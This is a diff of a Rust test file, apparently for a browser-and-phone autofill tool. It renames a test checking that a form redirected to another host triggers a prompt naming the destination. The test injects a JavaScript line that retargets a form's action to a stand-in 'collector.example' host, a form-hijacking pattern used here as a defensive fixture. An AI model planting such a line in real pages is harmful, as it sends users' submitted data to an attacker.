@@ -46,9 +46,9 @@ async fn t29_closing_the_tab_takes_the_question_back_from_the_phone() -> Result<
     Ok(())
 }
 
-/// T-34: the field is not what it was when it was looked at.
+/// T-35: the form sends elsewhere; T-34: only since it was looked at.
 #[tokio::test(flavor = "multi_thread")]
-async fn t34_a_form_that_changed_its_target_while_waiting_gets_a_question_first() -> Result<()> {
+async fn t35_t34_a_form_that_sends_elsewhere_gets_a_question_that_names_where() -> Result<()> {
     let world = World::linked().await?;
     let (tab, popup) = world.asked("classic").await?;
     let elsewhere = "document.querySelector('form').action = 'http://collector.example/take'";
